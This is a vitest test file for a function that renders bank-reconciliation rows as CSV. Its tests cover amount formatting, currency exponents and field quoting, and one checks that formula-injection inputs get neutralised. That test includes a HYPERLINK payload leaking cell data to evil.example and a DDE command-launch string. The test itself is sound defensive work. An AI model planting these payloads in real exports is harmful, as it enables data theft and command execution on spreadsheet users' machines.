import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderReconciliationCsv, type ReconciliationCsvRow } from './reconciliation-csv';

const row = (overrides: Partial<ReconciliationCsvRow> = {}): ReconciliationCsvRow => ({
  side: 'bank',
  date: '2026-10-03',
  description: 'ACH DEBIT CONTOSO',
  reference: null,
  amountMinor: -123450,
  status: 'matched',
  matchReason: 'amount+date',
  note: null,
  ...overrides,
});

/** Text made of the characters that CSV quoting has to handle. */
const csvText = fc.string({ unit: fc.constantFrom('a', 'Z', '1', ' ', ',', '"', '\n', '=', '-', ';') });

const parseCsv = (text: string): string[][] => parse(text);

describe('renderReconciliationCsv', () => {
  it('writes a header and one CRLF-terminated record per line with amounts as plain decimals', () => {
    const csv = renderReconciliationCsv(
      [row(), row({ side: 'ledger', reference: '1042', amountMinor: 500, status: 'outstanding', matchReason: null, note: 'Voided, reissued' })],
      'USD',
    );
    expect(csv).toBe(
      'side,date,description,reference,amount,currency,status,match_reason,note\r\n' +
        'bank,2026-10-03,ACH DEBIT CONTOSO,,-1234.50,USD,matched,amount+date,\r\n' +
        'ledger,2026-10-03,ACH DEBIT CONTOSO,1042,5.00,USD,outstanding,,"Voided, reissued"\r\n',
    );
  });

  it('respects the currency exponent', () => {
    const [, yen] = parseCsv(renderReconciliationCsv([row({ amountMinor: -1500 })], 'JPY'));
    const [, dinar] = parseCsv(renderReconciliationCsv([row({ amountMinor: 1 })], 'KWD'));
    expect(yen?.[4]).toBe('-1500');
    expect(dinar?.[4]).toBe('0.001');
  });

  it('neutralises hostile descriptions and notes but leaves negative amounts numeric', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1', '\r=1', '\u0000x'];
    const csv = renderReconciliationCsv(
      hostile.map((description) => row({ description, note: description, reference: description })),
      'USD',
    );
    const records = parseCsv(csv).slice(1);
    expect(records.map((record) => record[2])).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1)",
      "'\t=1",
      "'\n=1",
      "'\ufffdx",
    ]);
    for (const record of records) {
      expect(record[3]).toBe(record[2]);
      expect(record[8]).toBe(record[2]);
      expect(record[4]).toBe('-1234.50');
    }
    expect(csv).not.toContain('\u0000');
  });

  it('quotes fields with commas, quotes and line breaks so every record keeps nine fields', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(csvText, fc.option(csvText), fc.integer({ min: -1e12, max: 1e12 })), { maxLength: 20 }), (lines) => {
        const rows = lines.map(([description, note, amountMinor]) => row({ description, note, amountMinor }));
        const records = parseCsv(renderReconciliationCsv(rows, 'USD'));
        expect(records).toHaveLength(rows.length + 1);
        records.slice(1).forEach((record, index) => {
          expect(record).toHaveLength(9);
          const description = rows[index]!.description;
          // What comes back is the neutralised text: the original, possibly behind a quote.
          expect([description, `'${description}`]).toContain(record[2]);
        });
      }),
    );
  });
});
